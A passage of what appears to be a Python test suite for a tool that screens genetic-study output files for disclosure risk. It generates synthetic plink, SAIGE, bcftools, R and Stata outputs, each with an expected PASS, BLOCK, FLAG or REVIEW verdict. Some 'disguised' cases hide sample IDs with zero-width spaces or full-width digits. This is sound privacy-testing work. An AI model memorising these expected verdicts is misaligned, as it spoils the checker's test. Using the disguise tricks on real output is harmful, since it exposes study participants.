        "Using up to 4 threads (change this with --threads).\n300 samples (150 females, 150 "
        "males; 300 founders) loaded.\n5883 variants loaded.\nResults written to "
        "results/ldl.ldl.glm.linear .\n\nEnd time: Sun Dec  6 17:12:20 2026\n"
    )


@case("scores_as_options.txt", Expect.FLAG, "per-person scores on lines that start with '--'", S)
def _(path, rng):
    return "Scores\n" + "".join(
        f"--p{i} {rng.normal():.4f} {rng.normal():.4f}\n" for i in range(1, 31)
    )


def _variant_stats(rng, n: int, people: int = PEOPLE, rare: bool = False) -> pd.DataFrame:
    """tresor.stats.variant_stats' variables, one row per variant (biallelic, MAF >= 0.05 unless
    ``rare``: then some ALT alleles are seen 1 to 5 times)."""
    an = np.full(n, 2 * people)
    ac = rng.integers(int(0.05 * 2 * people), people, n)
    if rare:
        ac[:: max(n // 10, 1)] = rng.integers(1, 6, len(ac[:: max(n // 10, 1)]))
    pos, ids = _variants(rng, n)
    return pd.DataFrame({
        "variant_contig": 0, "variant_position": pos, "variant_id": ids,
        "variant_allele_count": list(zip(an - ac, ac, strict=True)), "variant_allele_total": an,
        "variant_minor_allele_frequency": np.minimum(ac, an - ac) / an,
        "variant_call_rate": 1.0, "variant_hwe_p_value": rng.uniform(0, 1, n),
    })  # fmt: skip


def _xarray_long(frame: pd.DataFrame) -> str:
    """xarray's Dataset.to_dataframe().to_csv(): one row per allele under variants, alleles."""
    rows = []
    for v, r in enumerate(frame.itertuples(index=False)):
        for a, count in enumerate(r.variant_allele_count):
            rows.append({"variants": v, "alleles": a, "variant_allele_count": count,
                         "variant_allele_total": r.variant_allele_total,
                         "variant_minor_allele_frequency": r.variant_minor_allele_frequency,
                         "variant_call_rate": r.variant_call_rate})  # fmt: skip
    return pd.DataFrame(rows).set_index(["variants", "alleles"]).to_csv()


@case("variant_stats_wide.csv", Expect.PASS, "tresor.stats.variant_stats by variant, common", S)
def _(path, rng):
    frame = _variant_stats(rng, 300)
    frame.insert(3, "variant_allele_count_alt", [c[1] for c in frame.variant_allele_count])
    return frame.drop(columns="variant_allele_count").to_csv(index=False)


@case("variant_stats_xarray.csv", Expect.PASS, "variant_stats' to_dataframe(), common", S)
def _(path, rng):
    return _xarray_long(_variant_stats(rng, 300))


@case("variant_stats_xarray_rare.csv", Expect.BLOCK, "variant_stats' to_dataframe(), rare", C)
def _(path, rng):
    return _xarray_long(_variant_stats(rng, 300, rare=True))


@case("sample_stats_xarray.csv", Expect.BLOCK, "sample_stats' to_dataframe(): per person", I)
def _(path, rng):
    n = PEOPLE
    called = rng.integers(5800, 5884, n)
    het = rng.integers(800, 1000, n)
    return pd.DataFrame({
        "sample_id": sample_ids("dk"), "sample_store_index": range(n), "sample_n_called": called,
        "sample_n_missing": 5883 - called, "sample_call_rate": called / 5883,
        "sample_n_het": het, "sample_heterozygosity": het / called,
    }, index=pd.RangeIndex(n, name="samples")).to_csv()  # fmt: skip


@case("pca_xarray.csv", Expect.BLOCK, "tresor.stats.pca's scores by to_dataframe()", I)
def _(path, rng):
    scores = _scores(rng, PEOPLE, 5)
    index = pd.MultiIndex.from_product([range(PEOPLE), range(5)], names=["samples", "components"])
    return pd.DataFrame({"sample_pca_projection": scores.ravel()}, index=index).to_csv()


@case("manhattan.csv", Expect.REVIEW, "CHR/BP/P only: p-values without N", M)
def _(path, rng):
    return "CHR,BP,P\n" + "".join(f"22,{100 + i},{rng.uniform():.4f}\n" for i in range(50))


@case("freq_by_pop.tsv", Expect.REVIEW, "frequencies per cohort without N", M)
def _(path, rng):
    return "CHROM\tPOS\tREF\tALT\tAF_dk\tAF_se\n22\t100\tA\tG\t0.1\t0.2\n"


@case("crosstab_exact.csv", Expect.REVIEW, "a crosstab of exact (unrounded) counts", M)
def _(path, rng):
    return "region,2021,2022\nnorth,53,61\nsouth,42,37\n"


# -- an outside evaluator's files (issue 14): tools and encodings the first corpus lacked -----


@case("pheno_cp1252.csv", Expect.BLOCK, "per-person rows: ';', decimal commas, Windows-1252", I)
def _(path, rng):
    frame = pd.DataFrame({"kommune": rng.choice(["København", "Århus", "Ålborg"], PEOPLE),
                          "alder": rng.integers(40, 80, PEOPLE),
                          "ldl": np.round(rng.normal(3.4, 0.8, PEOPLE), 2)})  # fmt: skip
    text = frame.to_csv(index=False, sep=";", decimal=",")
    return text.replace("\n", "\r\n").encode("cp1252")


def _saige_gene(rng, small: bool) -> str:
    rows = [_header("Region Group max_MAF Pvalue Pvalue_Burden Pvalue_SKAT BETA_Burden SE_Burden "
                    "MAC MAC_case MAC_control Number_rare Number_ultra_rare")]  # fmt: skip
    for i, gene in enumerate(["PCSK9", "LDLR", "APOB", "APOE", "ANGPTL3"]):
        for group in ["lof", "missense"]:
            mac = 3 if small and i == 2 and group == "lof" else int(rng.integers(60, 90))
            case_mac = mac // 3 if small else 30
            rows.append([gene, group, 0.01, f"{rng.uniform():.3g}", f"{rng.uniform():.3g}",
                         f"{rng.uniform():.3g}", f"{rng.normal(0, 0.2):.3f}", "0.11", mac,
                         case_mac, mac - case_mac, int(rng.integers(2, 20)),
                         int(rng.integers(1, 9))])  # fmt: skip
    return _tsv(rows)


@case("saige_gene.txt", Expect.BLOCK, "SAIGE-GENE region results with MAC = 3", C)
def _(path, rng):
    return _saige_gene(rng, small=True)


@case("saige_gene_safe.txt", Expect.PASS, "SAIGE-GENE results (Number_rare: variants)", S)
def _(path, rng):
    return _saige_gene(rng, small=False)


def _bcftools_stats(rng, samples: list[str]) -> str:
    lines = [
        "# This file was produced by bcftools stats (1.17+htslib-1.17) and can be plotted "
        "using plot-vcfstats.",
        "# The command line was:\tbcftools stats cohort.vcf.gz",
        "# SN\t[2]id\t[3]key\t[4]value",
        f"SN\t0\tnumber of samples:\t{len(samples)}",
        "SN\t0\tnumber of records:\t98000",
        "SN\t0\tnumber of SNPs:\t97000",
        "# AF\t[2]id\t[3]allele frequency\t[4]number of SNPs\t[5]number of transitions\t"
        "[6]number of transversions\t[7]number of indels\t[8]repeat-consistent\t"
        "[9]repeat-inconsistent\t[10]not applicable",
    ]
    lines += [f"AF\t0\t{f:.6f}\t{rng.integers(1, 5000)}\t{rng.integers(1, 3000)}\t"
              f"{rng.integers(1, 2000)}\t{rng.integers(0, 50)}\t0\t0\t0"
              for f in np.linspace(0, 0.99, 30)]  # fmt: skip
    lines.append(
        "# QUAL\t[2]id\t[3]Quality\t[4]number of SNPs\t[5]number of transitions "
        "(1st ALT)\t[6]number of transversions (1st ALT)\t[7]number of indels"
    )
    lines += [f"QUAL\t0\t{q}\t{rng.integers(1, 9)}\t{rng.integers(1, 5)}\t{rng.integers(0, 4)}\t0"
              for q in range(30, 60)]  # fmt: skip
    if samples:
        lines.append("# PSC\t[2]id\t[3]sample\t[4]nRefHom\t[5]nNonRefHom\t[6]nHets\t"
                     "[7]nTransitions\t[8]nTransversions\t[9]nIndels\t[10]average depth\t"
                     "[11]nSingletons\t[12]nHapRef\t[13]nHapAlt\t[14]nMissing")  # fmt: skip
        for s in samples:
            het, alt = int(rng.integers(20000, 25000)), int(rng.integers(8000, 9000))
            lines.append(f"PSC\t0\t{s}\t{97000 - het - alt}\t{alt}\t{het}\t"
                         f"{int((het + alt) * 0.67)}\t{int((het + alt) * 0.33)}\t"
                         f"{rng.integers(300, 400)}\t31.{rng.integers(0, 9)}\t"
                         f"{rng.integers(0, 20)}\t0\t0\t{rng.integers(0, 50)}")  # fmt: skip
    return "\n".join(lines) + "\n"


@case(
    "bcftools_stats_sites.txt",
    Expect.REVIEW,
    "bcftools stats: counts of SNPs per AF bin",
    F,
)
def _(path, rng):
    return _bcftools_stats(rng, [])


@case("bcftools_stats_psc.txt", Expect.BLOCK, "bcftools stats PSC lines, samples renamed", I)
def _(path, rng):
    return _bcftools_stats(rng, [f"s{i}" for i in range(1, PEOPLE + 1)])


@case(
    "snakemake.log",
    Expect.REVIEW,
    "a snakemake log: its job stats table counts jobs (no kind: review)",
    F,
)
def _(path, rng):
    return (
        "Building DAG of jobs...\nUsing shell: /usr/bin/bash\nProvided cores: 2\n"
        "Rules claiming more threads will be scaled down.\nJob stats:\n"
        "job           count\n----------  -------\nall               1\nplink_freq        3\n"
        "plink_hardy       3\nmerge             1\ntotal             8\n\n"
        "Select jobs to execute...\n\n"
        "[Sun Dec  6 13:10:01 2026]\nrule plink_freq:\n    input: data/dk.pgen\n"
        "    output: out/dk.afreq\n    jobid: 2\n    wildcards: cohort=dk\n\n"
        "[Sun Dec  6 13:10:04 2026]\nFinished job 2.\n1 of 8 steps (12%) done\n"
        "[Sun Dec  6 13:11:40 2026]\nFinished job 0.\n8 of 8 steps (100%) done\n"
    )


@case(
    "nextflow.log",
    Expect.PASS,
    "nextflow's console output with its summary",
    F,
)
def _(path, rng):
    return (
        "N E X T F L O W  ~  version 23.10.0\n"
        "Launching `main.nf` [tiny_curie] DSL2 - revision: 5e4c1a2b9d\n"
        "executor >  local (7)\n[3a/6f1b2c] process > FREQ (dk)   [100%] 3 of 3 \u2714\n"
        "[9f/8e7d2a] process > HARDY (uk)  [100%] 3 of 3 \u2714\n"
        "[c1/00aa11] process > MERGE       [100%] 1 of 1 \u2714\n"
        "Completed at: 06-Dec-2026 13:12:01\nDuration    : 2m 3s\nCPU hours   : 0.1\n"
        "Succeeded   : 7\n"
    )


@case(
    "dask_worker.log",
    Expect.PASS,
    "a dask worker log (Python's ',123' milliseconds)",
    F,
)
def _(path, rng):
    head = "2026-12-06 13:20:0{},{} - distributed.worker - INFO - "
    lines = [
        "Start worker at:      tcp://127.0.0.1:39121",
        "Threads:                          2",
        "Memory:                   3.73 GiB",
        "Local Directory: /tmp/dask-scratch-space/worker-abc123",
        "Registered to:      tcp://127.0.0.1:8786",
        "Stopping worker at tcp://127.0.0.1:39121. Reason: scheduler-close",
    ]
    return "".join(head.format(i, 100 + i) + line + "\n" for i, line in enumerate(lines))


@case("per_person_named_count.csv", Expect.BLOCK, "300 people: sex, n_prescriptions, ldl", I)
def _(path, rng):
    frame = pd.DataFrame({"sex": rng.choice(["F", "M"], PEOPLE),
                          "n_prescriptions": rng.integers(10, 60, PEOPLE),
                          "ldl": np.round(rng.normal(3.4, 0.8, PEOPLE), 2)})  # fmt: skip
    frame.to_csv(path, index=False)


@case("survfit_summary.txt", Expect.BLOCK, "R summary(survfit): n.event 1, '95% CI' header", C)
def _(path, rng):
    return (
        "Call: survfit(formula = Surv(time, status) ~ 1, data = d)\n\n"
        " time n.risk n.event survival std.err lower 95% CI upper 95% CI\n"
        "    5    150       2    0.987 0.00937        0.969        1.000\n"
        "   11    140       1    0.980 0.01150        0.957        1.000\n"
        "   23    120      14    0.865 0.02900        0.810        0.924\n"
    )


@case("r_summary_df.txt", Expect.FLAG, "R summary(df): Min./Max. of ages", C)
def _(path, rng):
    return (
        "      age             ldl       \n Min.   :40.00   Min.   :1.210  \n"
        " 1st Qu.:50.00   1st Qu.:2.870  \n Median :59.00   Median :3.400  \n"
        " Mean   :59.31   Mean   :3.412  \n 3rd Qu.:69.00   3rd Qu.:3.950  \n"
        " Max.   :79.00   Max.   :5.880  \n"
    )


@case("carriers_text.md", Expect.FLAG, "a sentence: '3 carriers among the 150 cases'", C)
def _(path, rng):
    return (
        "# Results\n\nThe lead variant rs7412 was rare: we observed 3 carriers among the 150 "
        "cases and 41 among the 750 controls. Controls were matched 4 controls per case.\n"
    )


@case("counts_utf16.tsv", Expect.REVIEW, "rounded counts saved as Excel 'Unicode text'", F)
def _(path, rng):
    return "region\tcases\tcontrols\r\nnorth\t30\t120\r\nsouth\t45\t130\r\n".encode("utf-16")


@case("sumstats.tsv.gz", Expect.PASS, "gzipped GWAS-catalog summary statistics", F)
def _(path, rng):
    pos, ids = _variants(rng, 50)
    ref, alt = _alleles(rng, 50)
    body = "chromosome\tbase_pair_location\teffect_allele\tother_allele\tbeta\tstandard_error\t"
    body += "effect_allele_frequency\tp_value\tvariant_id\tn\n"
    body += "".join(f"22\t{pos[i]}\t{alt[i]}\t{ref[i]}\t{rng.normal(0, 0.01):.5f}\t0.004\t"
                    f"{rng.uniform(0.1, 0.4):.4f}\t{rng.uniform():.4g}\t{ids[i]}\t900\n"
                    for i in range(50))  # fmt: skip
    buffer = io.BytesIO()
    with gzip.GzipFile("sumstats.tsv", "wb", fileobj=buffer, mtime=0) as g:  # as pandas writes
        g.write(body.encode())
    return buffer.getvalue()


@case("counts_small.tsv.gz", Expect.BLOCK, "gzipped counts with a 3", C)
def _(path, rng):
    return gzip.compress(b"age_group\tn\n40-49\t120\n50-59\t98\n80+\t3\n")


@case("ld_pairs.vcor", Expect.PASS, "plink2 --r2-unphased between variant pairs", S)
def _(path, rng):
    pos, ids = _variants(rng, 30)
    return "#CHROM_A\tPOS_A\tID_A\tCHROM_B\tPOS_B\tID_B\tUNPHASED_R2\n" + "".join(
        f"22\t{pos[i]}\t{ids[i]}\t22\t{pos[i + 1]}\t{ids[i + 1]}\t{rng.uniform():.4f}\n"
        for i in range(29)
    )


@case("ld_pairs.ld", Expect.PASS, "plink 1.9 --r2 between variant pairs", S)
def _(path, rng):
    pos, ids = _variants(rng, 30)
    rows = [_header("CHR_A BP_A SNP_A CHR_B BP_B SNP_B R2")]
    rows += [[22, pos[i], ids[i], 22, pos[i + 1], ids[i + 1], f"{rng.uniform():.4f}"]
             for i in range(29)]  # fmt: skip
    return _aligned(rows)


@case("qc_excluded_lowercase.txt", Expect.BLOCK, "sample IDs lowercased by a script", I)
def _(path, rng):
    return "Excluded after QC: dk000017 and se000045 (sex mismatch).\n"


@case("ldsc_rg.txt", Expect.PASS, "LDSC --rg genetic correlation table", S)
def _(path, rng):
    return (
        "p1 p2 rg se z p h2_obs h2_obs_se h2_int h2_int_se gcov_int gcov_int_se\n"
        "ldl.sumstats.gz hdl.sumstats.gz -0.3212 0.0611 -5.2568 1.4654e-07 0.1101 0.0132 "
        "1.0047 0.0071 -0.0323 0.0052\n"
        "ldl.sumstats.gz tg.sumstats.gz 0.2134 0.0702 3.0399 2.3664e-03 0.1089 0.0157 "
        "1.0102 0.0069 0.0211 0.0049\n"
    )


@case("mr_results.csv", Expect.PASS, "TwoSampleMR's mr() estimates over 7 SNPs", S)
def _(path, rng):
    return (
        "id.exposure,id.outcome,outcome,exposure,method,nsnp,b,se,pval\n"
        "ldl,cad,CAD,LDL,MR Egger,7,0.41,0.12,0.012\n"
        "ldl,cad,CAD,LDL,Weighted median,7,0.38,0.09,1e-4\n"
        "ldl,cad,CAD,LDL,Inverse variance weighted,7,0.40,0.07,2e-8\n"
    )


@case("coloc_summary.tsv", Expect.PASS, "coloc's summary: 412 SNPs, PP.H0 to PP.H4", S)
def _(path, rng):
    return (
        "nsnps\tPP.H0.abf\tPP.H1.abf\tPP.H2.abf\tPP.H3.abf\tPP.H4.abf\n"
        "412\t1e-10\t2e-5\t0.01\t0.05\t0.94\n"
    )


@case("susie_vars.tsv", Expect.PASS, "susieR's summary(fit)$vars: variable, PIP, set", S)
def _(path, rng):
    pips = np.round(rng.uniform(0, 1, 200), 4)
    rows = "".join(f"{j + 1}\t{p}\t{1 if j < 3 else -1}\n" for j, p in enumerate(pips))
    return "variable\tvariable_prob\tcs\n" + rows


@case("gene_tests_nsnps.csv", Expect.REVIEW, "per-gene tests, 3 to 12 SNPs under 'nsnps'", S)
def _(path, rng):
    return "gene,nsnps,stat,p\nPCSK9,7,12.1,0.004\nAPOB,3,2.2,0.31\nLDLR,12,30.5,1e-6\n"


# -- a second red-team pass: other tools' shapes (plink2 --clump, ADMIXTURE, smartpca, GCTA
# --reml-no-lrt, R and NumPy console prints, JSON strings holding text) -------------------------

R = "red-team-2"


@case("plink2.clumps", Expect.PASS, "plink2 --clump (.clumps: TOTAL, NONSIG count SNPs)", R)
def _(path, rng):
    n = 12
    pos, ids, *_ = _sumstats(rng, n)
    rows = [_header("#CHROM POS ID P TOTAL NONSIG S0.05 S0.01 S0.001 S0.0001 SP2")] + [
        [22, pos[k], ids[k], f"{rng.uniform(1e-12, 1e-8):.3g}", 14, 2, 3, 4, 3, 2,
         f"{ids[(k + 1) % n]}(A),{ids[(k + 2) % n]}(C)"]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows)


@case("pgs_scoring.txt", Expect.PASS, "PGS Catalog scoring file (weights per variant)", R)
def _(path, rng):
    n = 100
    pos, ids, ref, alt, beta, _se, _p = _sumstats(rng, n)
    head = "###PGS CATALOG SCORING FILE\n#format_version=2.0\n#pgs_name=LDL_PRS\n"
    names = ["rsID", "chr_name", "chr_position", "effect_allele", "other_allele", "effect_weight"]
    return head + _tsv([names] + [[ids[k], 22, pos[k], alt[k], ref[k], beta[k]] for k in range(n)])


@case("susie_cs.tsv", Expect.PASS, "SuSiE credible sets: pip and cs per variant", R)
def _(path, rng):
    n = 25
    pos, _, ref, alt, *_ = _sumstats(rng, n)
    names = ["variant_id", "chromosome", "position", "allele1", "allele2", "pip", "cs",
             "cs_log10bf", "lbf_variable"]  # fmt: skip
    return _tsv([names] + [
        [f"22:{pos[k]}:{ref[k]}:{alt[k]}", 22, pos[k], ref[k], alt[k],
         round(rng.uniform(0, 1), 4), 1 + k % 2, 12.3, round(rng.uniform(0, 5), 3)]
        for k in range(n)
    ])  # fmt: skip


@case("admixture.P", Expect.REVIEW, "ADMIXTURE .P: frequencies of 1,000 variants, no labels", R)
def _(path, rng):
    return "".join(" ".join(f"{v:.6f}" for v in rng.uniform(0.01, 0.99, 3)) + "\n"
                   for _ in range(1000))  # fmt: skip


@case("ld_square.ld", Expect.REVIEW, "plink --r2 square: an LD matrix of 120 variants", R)
def _(path, rng):
    r2 = np.corrcoef(_genotypes(rng, 600, 120).T.astype(float)) ** 2
    return "".join("\t".join(f"{v:.4g}" for v in row) + "\n" for row in r2)


@case("admixture.Q", Expect.BLOCK, "ADMIXTURE .Q: ancestry proportions per person", R)
def _(path, rng):
    return "".join(" ".join(f"{v:.6f}" for v in q) + "\n" for q in rng.dirichlet([1, 1, 1], PEOPLE))


@case("smartpca.evec", Expect.BLOCK, "smartpca .evec under '#eigvals:', single spaces", R)
def _(path, rng):
    return "#eigvals: 5.21 3.02 2.11 1.95 1.80 1.77\n" + "".join(
        f"S{i:04d} " + " ".join(f"{v:.4f}" for v in row) + " Case\n"
        for i, row in enumerate(_scores(rng, k=6))
    )


@case("het_row_numbers.tsv", Expect.BLOCK, "per-person heterozygosity keyed by row number", R)
def _(path, rng):
    nm = rng.integers(90000, 97000, PEOPLE)
    frame = pd.DataFrame({"row": np.arange(1, PEOPLE + 1),
                          "O_HOM": (nm * rng.uniform(0.6, 0.7, PEOPLE)).astype(int),
                          "E_HOM": (nm * 0.65).astype(int), "N_NM": nm,
                          "F": np.round(rng.normal(0, 0.02, PEOPLE), 5)})  # fmt: skip
    frame.to_csv(path, sep="\t", index=False)


@case("reml_no_lrt.hsq", Expect.BLOCK, "GCTA --reml-no-lrt .hsq with n 8", R)
def _(path, rng):
    return ("Source\tVariance\tSE\nV(G)\t0.5\t0.3\nV(e)\t0.5\t0.3\nVp\t1.0\t0.2\n"
            "V(G)/Vp\t0.5\t0.4\nlogL\t-3.1\nn\t8\n")  # fmt: skip


@case("table1_pct_rows.csv", Expect.BLOCK, "Table 1: a row N = 24 and a row 'smokers, %' 12.5", R)
def _(path, rng):
    return ('characteristic,cases,controls\nN,24,276\n"smokers, %",12.5,20.3\n'
            '"diabetes, %",25.0,11.2\n')  # fmt: skip


@case("n_in_cells.csv", Expect.BLOCK, "cells that say 'Smokers (n = 3)'", R)
def _(path, rng):
    return 'group,description\ncases,"Smokers (n = 3)"\ncontrols,"Smokers (n = 45)"\n'


@case("counts_in_words.md", Expect.FLAG, "results: 'three carriers', 'Two of the carriers'", R)
def _(path, rng):
    return ("# Results\n\nAmong the 150 cases we found three carriers of p.R47H and none among "
            "the controls.\nTwo of the carriers were women.\n")  # fmt: skip


@case("numpy_genotypes.ipynb", Expect.BLOCK, "a notebook printing a NumPy 0/1/2 matrix", R)
def _(path, rng):
    import nbformat

    g = np.array2string(_genotypes(rng, 20, 30), max_line_width=75, threshold=10**6)
    cell = nbformat.v4.new_code_cell("print(G[:20])")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=g + "\n")]
    nb = nbformat.v4.new_notebook()
    nb.cells = [cell]
    return nbformat.writes(nb)


@case("r_print_scores.txt", Expect.BLOCK, "R's print of 300 scores ('[1]  0.21 ...' lines)", R)
def _(path, rng):
    v = rng.normal(0, 1, PEOPLE)
    return "> prs\n" + "".join(
        f"[{i + 1}] " + " ".join(f"{x: .5f}" for x in v[i : i + 6]) + "\n"
        for i in range(0, PEOPLE, 6)
    )


@case("scores_one_line.txt", Expect.BLOCK, "300 scores on one line, ' '.join", R)
def _(path, rng):
    return "scores\n" + " ".join(f"{v:.5f}" for v in rng.normal(0, 1, PEOPLE)) + "\n"


@case("vcf_in_string.json", Expect.BLOCK, "VCF records inside a JSON string", R)
def _(path, rng):
    records = "\n".join(f"22\t{16050000 + k}\trs{k}\tA\tG\t50\tPASS\t.\tGT\t0/1\t1/1\t0/0"
                        for k in range(5))  # fmt: skip
    return json.dumps({"note": "variants", "records": records})


@case("csv_in_string.json", Expect.BLOCK, "a per-person CSV inside a JSON string", R)
def _(path, rng):
    rows = "".join(f"{rng.integers(40, 80)},{rng.choice(['F', 'M'])},{rng.normal(3.4, 0.8):.2f}\n"
                   for _ in range(PEOPLE))  # fmt: skip
    return json.dumps({"analysis": "ldl", "data": "age,sex,ldl\n" + rows})


@case(
    "cpr_with_space.txt", Expect.BLOCK, "a CPR number written '020190 1006'", R,
)  # fmt: skip
def _(path, rng):
    return "Patient 020190 1006 was excluded after review.\n"


@case("binary_trait.hsq", Expect.PASS, "GCTA .hsq of a binary trait (liability-scale lines)", R)
def _(path, rng):
    return ("Source\tVariance\tSE\nV(G)\t0.051\t0.012\nV(e)\t0.172\t0.011\nVp\t0.223\t0.006\n"
            "V(G)/Vp\t0.228\t0.052\nThe estimate of variance explained on the observed scale is "
            "transformed to that on the underlying scale:\n(Proportion of cases in the sample = "
            "0.333; User-specified disease prevalence = 0.100)\nV(G)/Vp_L\t0.312\t0.071\n"
            "logL\t1201.3\nlogL0\t1190.2\nLRT\t22.2\ndf\t1\nPval\t1.2e-06\nn\t900\n")  # fmt: skip


@case(
    "prscs_weights.txt", Expect.PASS, "PRS-CS posterior effects, headerless", R,
)  # fmt: skip
def _(path, rng):
    n = 200
    pos, ids, ref, alt, beta, *_ = _sumstats(rng, n)
    return "".join(f"22\t{ids[k]}\t{pos[k]}\t{alt[k]}\t{ref[k]}\t{beta[k] * 1e-2:.6e}\n"
                   for k in range(n))  # fmt: skip


@case(
    "dput_frame.txt", Expect.BLOCK, "R dput() of a data frame of 300 people", R,
)  # fmt: skip
def _(path, rng):
    age = ", ".join(str(v) for v in rng.integers(40, 80, PEOPLE))
    ldl = ", ".join(f"{v:.2f}" for v in rng.normal(3.4, 0.8, PEOPLE))
    return (f"structure(list(age = c({age}), ldl = c({ldl})), class = \"data.frame\", "
            "row.names = c(NA, -300L))\n")  # fmt: skip


def _stata_tab(cells: list[list[int]]) -> str:
    """Stata's ``tab sex case``: '|' between the labels, the columns of case, and the total."""
    lines = [". tab sex case", "", "           |         case",
             "       sex |         0          1 |     Total",
             "-----------+----------------------+----------"]  # fmt: skip
    for label, (a, b) in zip(("F", "M"), cells, strict=True):
        lines.append(f"{label:>10} | {a:>9} {b:>10} | {a + b:>9} ")
    lines.append("-----------+----------------------+----------")
    a, b = (sum(c[j] for c in cells) for j in (0, 1))
    lines.append(f"{'Total':>10} | {a:>9} {b:>10} | {a + b:>9} ")
    return "\n".join(lines) + "\n"


@case("stata_tab.log", Expect.BLOCK, "Stata tab output with a 3 ('|' between columns)", R)
def _(path, rng):
    return _stata_tab([[140, 3], [150, 7]])


@case("stata_tab_safe.log", Expect.PASS, "Stata tab output, rounded cells of 15 or more", R)
def _(path, rng):
    return _stata_tab([[140, 15], [130, 15]])


@case("r_console.Rout", Expect.PASS, "an R session printing chromosomes 1..22 ('[1]  1  2')", R)
def _(path, rng):
    chroms = " ".join(f"{c:>2}" for c in range(1, 23))
    return (f"> unique(d$chr)\n [1] {chroms}\n> nrow(d)\n[1] 900\n> mean(d$ldl)\n"
            "[1] 3.412\n")  # fmt: skip


@case("html_in_markdown.md", Expect.BLOCK, "Markdown with an HTML table of 300 people", R)
def _(path, rng):
    frame = pd.DataFrame({"age": rng.integers(40, 80, PEOPLE),
                          "ldl": np.round(rng.normal(3.4, 0.8, PEOPLE), 2)})  # fmt: skip
    return "# Data\n\n" + frame.to_html(index=False) + "\n"


def _vcftools(rng, counts: bool, singleton: bool) -> str:
    n = 10
    pos, _, ref, alt, *_ = _sumstats(rng, n)
    rows = ["CHROM\tPOS\tN_ALLELES\tN_CHR\t{ALLELE:" + ("COUNT}" if counts else "FREQ}")]
    for k in range(n):
        c = 1 if singleton and k == 2 else 150
        a, b = (600 - c, c) if counts else (f"{(600 - c) / 600:.6g}", f"{c / 600:.6g}")
        rows.append(f"22\t{pos[k]}\t2\t600\t{ref[k]}:{a}\t{alt[k]}:{b}")
    return "\n".join(rows) + "\n"


@case("vcftools.frq.count", Expect.BLOCK, "vcftools --counts with a singleton (G:1)", R)
def _(path, rng):
    return _vcftools(rng, counts=True, singleton=True)


@case("vcftools_1in600.frq", Expect.BLOCK, "vcftools --freq with 1/600 of N_CHR 600", R)
def _(path, rng):
    return _vcftools(rng, counts=False, singleton=True)


@case("vcftools_safe.frq", Expect.PASS, "vcftools --freq, every allele 150 times or more", R)
def _(path, rng):
    return _vcftools(rng, counts=False, singleton=False)


@case("plink2_mind.log", Expect.FLAG, "a plink2 log: '3 samples removed ... (--mind)'", R)
def _(path, rng):
    return ("PLINK v2.00a5 64-bit\n900 samples (450 females, 450 males; 900 founders) loaded "
            "from merged.psam.\n3 samples removed due to missing genotype data (--mind).\n"
            "897 samples remaining after main filters.\n")  # fmt: skip


@case("kinship_pairs.csv", Expect.BLOCK, "kinship of pairs of people, id1/id2 pseudonymised", R)
def _(path, rng):
    pairs = rng.integers(1, PEOPLE, (40, 2))
    return "id1,id2,kinship\n" + "".join(
        f"P{a:04d},P{b:04d},{rng.uniform(0.04, 0.3):.4f}\n" for a, b in pairs
    )


@case("ld_pairs_ids.csv", Expect.REVIEW, "r2 between pairs of variants named id1, id2", R)
def _(path, rng):
    _, ids = _variants(rng, 40)
    return "id1,id2,r2\n" + "".join(f"{ids[k]},{ids[k + 20]},{rng.uniform(0, 1):.3f}\n"
                                    for k in range(20))  # fmt: skip


@case("crosstab_total_column.csv", Expect.PASS, "cases, controls and their total per group", R)
def _(path, rng):
    return "group,cases,controls,total\nF,70,155,225\nM,80,145,225\n"


# -- files only a human can judge --------------------------------------------------------------

#: sample IDs disguised in text (session five)
D = "disguised"


@case("ids_full_width.txt", Expect.BLOCK, "sample IDs written in full-width digits", D)
def _(path, rng):
    wide = str.maketrans("0123456789DK", "０１２３４５６７８９ＤＫ")
    return "Excluded after QC:\n" + "".join(f"{s.translate(wide)}\n" for s in sample_ids("dk", 12))


@case("ids_zero_width.md", Expect.BLOCK, "sample IDs with a zero-width space inside", D)
def _(path, rng):
    return "Outliers: " + ", ".join(s[:2] + "\u200b" + s[2:] for s in sample_ids("se", 6)) + ".\n"


@case("ids_mixed_case.txt", Expect.BLOCK, "sample IDs in title case in a sentence", D)
def _(path, rng):
    ids = [s.title() for s in sample_ids("uk", 4)]
    return f"We re-contacted {', '.join(ids)} for consent before the analysis.\n"


@case("ids_separated.txt", Expect.BLOCK, "sample IDs written DK-000017 and dk_000018", D)
def _(path, rng):
    ids = sample_ids("dk", 6)
    return f"Re-contacted: {ids[0][:2]}-{ids[0][2:]}, {ids[1][:2].lower()}_{ids[1][2:]}.\n"


@case("codes_reversed.txt", Expect.REVIEW, "sample IDs reversed, one per line", D)
def _(path, rng):
    return "".join(s[::-1] + "\n" for s in sample_ids("dk", 40))


@case("codes_other_cohort.txt", Expect.REVIEW, "1000 Genomes sample names, one per line", D)
def _(path, rng):
    return "".join(f"HG{int(j):05d}\n" for j in rng.choice(np.arange(96, 4000), 50, replace=False))


@case("dput_wrapped.R", Expect.BLOCK, "dput() of 300 people's values, wrapped as R prints it", D)
def _(path, rng):
    age = ", ".join(f"{v}L" for v in rng.integers(40, 80, PEOPLE))
    sex = ", ".join(f'"{v}"' for v in rng.choice(["F", "M"], PEOPLE))
    text = f"structure(list(age = c({age}), sex = c({sex})), row.names = c(NA, -{PEOPLE}L))"
    return textwrap.fill(text, 70) + "\n"


@case("r_code.R", Expect.PASS, "R code with short c() vectors and a long sequence", D)
def _(path, rng):
    return (
        'covariates <- c("age", "sex", "PC1", "PC2", "PC3")\n'
        "breaks <- c(0, 18, 30, 45, 60, 75, 120)\n"
        'fit <- glm(case ~ ., data = d[, c(covariates, "case")], family = binomial)\n'
    )


@case("counts.yaml", Expect.BLOCK, "counts under their names in YAML: 'n_cases: 4'", D)
def _(path, rng):
    return "analysis: burden test\nn_cases: 4\nn_controls: 215\nmin_cell_count: 10\n"


@case("counts_mixed.json", Expect.BLOCK, "a JSON object of counts and words: n_cases 4", D)
def _(path, rng):
    return json.dumps({"n_cases": 4, "n_controls": 215, "note": "carriers of the variant"})


@case("labelled_counts.md", Expect.REVIEW, "a Markdown list: 'Females with the variant: 3'", D)
def _(path, rng):
    return "# Carriers\n\n- Females with the variant: 3\n- Males with the variant: 41\n"


@case("spelled_counts.txt", Expect.REVIEW, "'three carried the variant, two of them died'", D)
def _(path, rng):
    return ("Of the 120 participants, three carried the variant and two of them developed the "
            "disease.\n")  # fmt: skip


@case("oldest_in_prose.txt", Expect.REVIEW, "'the oldest participant was 97 years old'", D)
def _(path, rng):
